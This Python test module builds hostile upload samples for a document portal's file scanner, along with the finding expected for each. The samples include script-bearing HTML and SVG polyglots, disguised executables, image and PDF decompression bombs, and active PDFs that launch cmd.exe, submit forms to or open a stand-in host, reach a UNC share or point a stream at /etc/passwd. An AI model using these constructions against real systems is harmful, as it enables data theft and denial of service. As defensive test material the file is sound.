"""Files nobody should upload, made on the spot: what each is called, its bytes, and what the portal must say."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from rules.parameters.uploads import upload_limits

HARMLESS = "harmless"
MEGABYTE = 1024 * 1024
SCRIPT = b"<html><script>alert(document.cookie)</script></html>"
GPS, ORIENTATION, CAMERA = 0x8825, 0x0112, 0x0110
LATITUDE = {1: "N", 2: (41.0, 48.0, 16.25), 3: "E", 4: (123.0, 25.0, 55.5)}


@dataclass(frozen=True)
class Hostile:
    """`expected` is the code of the finding, or HARMLESS where the portal takes the file and disarms it."""

    name: str
    file_name: str
    expected: str
    data: bytes = field(repr=False)


def hostile_files() -> Iterator[Hostile]:
    yield from foreign_files()
    yield from hostile_pictures()
    yield from hostile_pdfs()


# --- not what they say ----------------------------------------------------------------------------------------------


def foreign_files() -> Iterator[Hostile]:
    foreign = {
        "an HTML page named pdf": ("证明.pdf", b"<!DOCTYPE html>" + SCRIPT),
        "a page that starts with a comment": ("证明.jpg", b"<!-- GIF -->\n<script>alert(1)</script>"),
        "an SVG with a script named png": ("章.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        "an SVG behind an XML head": ("章.jpg", b"<?xml version='1.0'?>\n<SVG><script>alert(1)</script></SVG>"),
        "a Word document named pdf": ("合同.pdf", archive("[Content_Types].xml", "word/document.xml")),
        "a workbook with macros named pdf": ("名册.pdf", archive("xl/workbook.xml", "xl/vbaProject.bin")),
        "an old Word document": ("合同.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        "an OFD file": ("电子证照.pdf", archive("OFD.xml", "Doc_0/Document.xml")),
        "an archive named png": ("材料.png", archive("setup.exe")),
        "a RAR archive": ("材料.pdf", b"Rar!\x1a\x07\x01\0" + bytes(50)),
        "an RTF document": ("合同.pdf", b"{\\rtf1 {\\object\\objdata 0105}}"),
        "a program named pdf": ("证明.pdf.exe", b"MZ\x90\0" + bytes(60)),
        "a program whose name reads backwards": ("证明\u202efdp.exe", b"\x7fELF\x02\x01\x01" + bytes(60)),
        "an iPhone photograph": ("IMG_0001.jpg", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(60)),
        "a GIF": ("章.jpg", picture("GIF")),
        "a WebP image": ("章.jpg", picture("WEBP")),
        "a BMP image": ("章.png", picture("BMP")),
        "a TIFF image": ("扫描.jpg", picture("TIFF")),
        "plain text": ("证明.pdf", "解除劳动关系证明书".encode()),
        "noise": ("证明.pdf", bytes(range(256)) * 4),
        "a PDF behind an HTML page": ("证明.pdf", SCRIPT + pdf()),
        "a PDF behind one blank": ("证明.pdf", b" " + pdf()),
    }
    for name, (file_name, data) in foreign.items():
        yield Hostile(name, file_name, "wrong-type", data)
    yield Hostile("nothing", "证明.pdf", "empty-file", b"")
    yield Hostile("one byte too many", "证明.pdf", "too-large", pdf() + bytes(upload_limits().largest_bytes))


def archive(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name in names:
            file.writestr(name, "…")
    return out.getvalue()


# --- pictures -------------------------------------------------------------------------------------------------------


def hostile_pictures() -> Iterator[Hostile]:
    png, jpeg = picture("PNG"), picture("JPEG")
    refused = {
        "a PNG of 20,000 × 20,000 pixels": ("too-many-pixels", bomb(20_000)),
        "a PNG of 30 megapixels": ("too-many-pixels", png_of(6000, 5000)),
        "a PNG that claims two thousand million pixels": (
            "too-many-pixels",
            png_header(65_535, 32_767) + chunk(b"IDAT", b""),
        ),
        "a JPEG that claims 65,500 × 65,500 pixels": ("too-many-pixels", jpeg_claiming(jpeg, 65_500)),
        "a PNG cut off": ("damaged-image", png[: len(png) // 2]),
        "a JPEG cut off": ("damaged-image", jpeg[: len(jpeg) // 2]),
        "the head of a PNG": ("damaged-image", png[:8]),
        "the head of a JPEG": ("damaged-image", jpeg[:20]),
        "a PNG with a wrong check sum": ("damaged-image", png[:29] + b"\0\0\0\0" + png[33:]),
        "a PNG with a text that unpacks to a gigabyte": ("damaged-image", with_text_bomb(png)),
        "a web page behind the head of a JPEG": ("damaged-image", b"\xff\xd8\xff\xe0" + SCRIPT),
    }
    for name, (expected, data) in refused.items():
        yield Hostile(name, "照片.jpg", expected, data)
    disarmed = {
        "a JPEG with the place where it was taken": with_exif(),
        "a JPEG with a script in its comment": commented(SCRIPT),
        "a JPEG with a PDF in its comment": commented(pdf(scripted)),
        "a JPEG with a web page behind it": jpeg + SCRIPT,
        "a JPEG with an archive behind it": jpeg + archive("setup.exe"),
        "a JPEG with broken EXIF": jpeg[:2] + segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff") + jpeg[2:],
        "a JPEG with a second picture": several("MPO"),
        "a PNG with a script in its text": with_text(SCRIPT.decode()),
        "a PNG with a web page behind it": png + SCRIPT,
        "an animated PNG": several("PNG"),
        "a PNG whose alpha hides its words": picture("PNG", "RGBA"),
        "a PNG of 16 bits": picture("PNG", "I;16"),
        "a JPEG for printing": picture("JPEG", "CMYK"),
    }
    for name, data in disarmed.items():
        yield Hostile(name, "照片.png", HARMLESS, data)


def picture(file_format: str, mode: str = "RGB", **options: Any) -> bytes:
    """A little paper with something to see on it."""
    image = Image.linear_gradient("L").resize((320, 200))
    out = io.BytesIO()
    (image.convert("I").convert(mode) if mode == "I;16" else image.convert(mode)).save(out, file_format, **options)
    return out.getvalue()


def several(file_format: str) -> bytes:
    first, second = Image.new("RGB", (64, 48), "white"), Image.new("RGB", (64, 48), "red")
    out = io.BytesIO()
    first.save(out, file_format, save_all=True, append_images=[second])
    return out.getvalue()


def with_exif(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[CAMERA], exif[ORIENTATION] = "Camera of Zhang San", orientation
    exif.get_ifd(GPS).update(LATITUDE)
    return picture("JPEG", exif=exif, icc_profile=b"profile", comment="沈阳市")


def commented(words: bytes) -> bytes:
    return picture("JPEG", comment=words)


def segment(marker: int, payload: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(payload) + 2) + payload


def jpeg_claiming(jpeg: bytes, side: int) -> bytes:
    frame = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:frame] + struct.pack(">HH", side, side) + jpeg[frame + 4 :]


def endless_scans(size: int) -> bytes:
    """A progressive JPEG of 25 megapixels whose thousands of scans say nothing, each of them for every pixel."""
    side = 5000
    blocks = (side // 8) ** 2
    frame = segment(0xC2, struct.pack(">BHHBBBB", 8, side, side, 1, 1, 0x11, 0))
    one_code = bytes((1, *[0] * 15))
    tables = segment(0xDB, bytes((0, *[1] * 64)))
    tables += segment(0xC4, b"\x00" + one_code + b"\x00") + segment(0xC4, b"\x10" + one_code + b"\xe0")
    first = segment(0xDA, bytes((1, 1, 0x00, 0, 0, 0))) + bytes(blocks // 8 + 1)
    runs = -(-blocks // 16_384)
    bits = "0" + "0" * 14  # the end of a run of 2**14 blocks
    scan = int((bits * runs).ljust(-(-15 * runs // 8) * 8, "1"), 2).to_bytes(-(-15 * runs // 8), "big")
    empty = segment(0xDA, bytes((1, 1, 0x00, 1, 63, 0))) + scan
    head = b"\xff\xd8" + tables + frame + first
    return head + empty * ((size - len(head) - 2) // len(empty)) + b"\xff\xd9"


def chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_header(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))


def png_of(width: int, height: int) -> bytes:
    rows = packed_zeros((width + 1) * height)
    return png_header(width, height) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def bomb(side: int) -> bytes:
    return png_of(side, side)


def with_text(words: str) -> bytes:
    info = PngInfo()
    info.add_text("Comment", words)
    info.add_itxt("Author", words)
    return picture("PNG", pnginfo=info)


def with_text_bomb(png: bytes) -> bytes:
    return png[:33] + chunk(b"zTXt", b"Comment\0\0" + packed_zeros(1024 * MEGABYTE)) + png[33:]


# --- PDF ------------------------------------------------------------------------------------------------------------


def hostile_pdfs() -> Iterator[Hostile]:
    active = {
        "a PDF with a script at opening": scripted,
        "a PDF with a script on its page": lambda it: it.pages[0].obj.update({"/AA": Dictionary(O=script())}),
        "a PDF with named scripts": named_scripts,
        "a PDF that starts a program": opening(S=Name.Launch, F=String("cmd.exe")),
        "a PDF that opens an address by itself": opening(S=Name.URI, URI=String("http://192.0.2.1/")),
        "a PDF that sends its form": linked(Dictionary(S=Name.SubmitForm, F=String("http://192.0.2.1/"))),
        "a PDF that opens another file": linked(Dictionary(S=Name.GoToR, F=String("\\\\192.0.2.1\\share\\x.pdf"))),
        "a PDF with a script behind a link": linked(Dictionary(S=Name.GoTo, Next=Array([script()]))),
        "a PDF with a film": annotated(Subtype=Name.RichMedia),
        "a PDF that is a dynamic form": dynamic_form,
        "a PDF whose stream stands elsewhere": external_stream,
    }
    for name, change in active.items():
        yield Hostile(name, "证明.pdf", "active-pdf", pdf(change))
    yield Hostile("a PDF with its script written #4A#53", "证明.pdf", "active-pdf", disguised())
    yield Hostile("a PDF with a script in an object stream", "证明.pdf", "active-pdf", pdf(scripted, packed=True))
    for name, change in {"with a file within": with_file, "with a file on a page": with_pinned_file}.items():
        yield Hostile(f"a PDF {name}", "证明.pdf", "embedded-files-pdf", pdf(change))
    for name, owner, user in (("a password", "o", "u"), ("a ban on printing", "o", "")):
        locked = pikepdf.Encryption(owner=owner, user=user)
        yield Hostile(f"a PDF with {name}", "证明.pdf", "encrypted-pdf", pdf(encryption=locked))
    whole = pdf()
    damaged = {
        "a PDF cut off": whole[: len(whole) // 2],
        "the head of a PDF": b"%PDF-1.7\n",
        "a PDF of which only head and end are left": b"%PDF-1.7\n" + bytes(500) + b"\n%%EOF\n",
        "a PDF with a web page behind it": whole + SCRIPT,
        "a PDF with an archive behind it": whole + archive("setup.exe"),
        "a PDF without pages": pdf(pages=0),
        "a PDF whose objects unpack to 2 gigabytes": object_stream_bomb(),
    }
    for name, data in damaged.items():
        yield Hostile(name, "证明.pdf", "damaged-pdf", data)
    endless = {
        "a PDF that unpacks to 200 megabytes": pdf(unpacking_to(200)),
        "a PDF that unpacks twice to 4 gigabytes": pdf(unpacking_twice),
        "a PDF with a picture of ten thousand million pixels": pdf(huge_picture),
    }
    for name, data in endless.items():
        yield Hostile(name, "证明.pdf", "too-complex", data)


Change = Callable[[pikepdf.Pdf], object]


def pdf(
    change: Change | None = None, pages: int = 1, packed: bool = False, encryption: pikepdf.Encryption | None = None
) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    streams = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    out = io.BytesIO()
    made.save(out, object_stream_mode=streams, encryption=encryption or False, compress_streams=False)
    return out.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def scripted(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(script())


def named_scripts(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


def opening(**action: Any) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(**action)

    return change


def annotated(**annotation: Any) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].obj.Annots = Array([Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **annotation)])

    return change


def linked(action: Dictionary) -> Change:
    return annotated(Subtype=Name.Link, A=action)


def dynamic_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>"))


def external_stream(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.Contents = made.make_stream(b"", F=String("/etc/passwd"))


def disguised() -> bytes:
    return pdf(scripted).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4A#53 ")


def with_file(made: pikepdf.Pdf) -> None:
    made.attachments["setup.exe"] = b"MZ"


def with_pinned_file(made: pikepdf.Pdf) -> None:
    held = made.make_stream(b"MZ", Type=Name.EmbeddedFile)
    annotated(Subtype=Name.FileAttachment, FS=Dictionary(F=String("setup.exe"), EF=Dictionary(F=held)))(made)


def unpacking_to(megabytes: int) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].obj.Contents = stream(made, packed_zeros(megabytes * MEGABYTE), Array([Name.FlateDecode]))

    return change


def unpacking_twice(made: pikepdf.Pdf) -> None:
    filters = Array([Name.FlateDecode, Name.FlateDecode])
    made.pages[0].obj.Contents = stream(made, zlib.compress(packed_zeros(4096 * MEGABYTE)), filters)


def huge_picture(made: pikepdf.Pdf) -> None:
    about = {"Type": Name.XObject, "Subtype": Name.Image, "ColorSpace": Name.DeviceGray, "BitsPerComponent": 1}
    image = made.make_stream(b"\0", Width=100_000, Height=100_000, **about)
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=image))


def stream(made: pikepdf.Pdf, data: bytes, filters: Array) -> pikepdf.Stream:
    held = made.make_stream(b"")
    held.write(data, filter=filters)
    return held


def packed_zeros(length: int) -> bytes:
    """zlib's form of so many zeros, put together from equal blocks: packing gigabytes would take a minute."""
    packer = zlib.compressobj(wbits=-15)
    block = packer.compress(bytes(MEGABYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = zlib.compressobj(wbits=-15)
    end = rest.compress(bytes(length % MEGABYTE)) + rest.flush()
    checksum = (length % 65_521) << 16 | 1
    return b"\x78\x9c" + block * (length // MEGABYTE) + end + struct.pack(">I", checksum)


def object_stream_bomb() -> bytes:
    """Written by hand: the catalogue stands in an object stream of 2 GB, which must be unpacked to find it."""
    held = packed_zeros(2048 * MEGABYTE)
    objects = {
        1: b"<</Type/Pages/Kids[2 0 R]/Count 1>>",
        2: b"<</Type/Page/Parent 1 0 R/MediaBox[0 0 9 9]>>",
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(held), held),
    }
    out, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places[5] = len(out)
    rows = [(0, 0, 65_535), (1, places[1], 0), (1, places[2], 0), (2, 4, 0), (1, places[4], 0), (1, places[5], 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    about = b"<</Type/XRef/Size 6/W[1 4 2]/Root 3 0 R/Length %d>>stream\n%s\nendstream" % (len(table), table)
    return out + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (about, places[5])
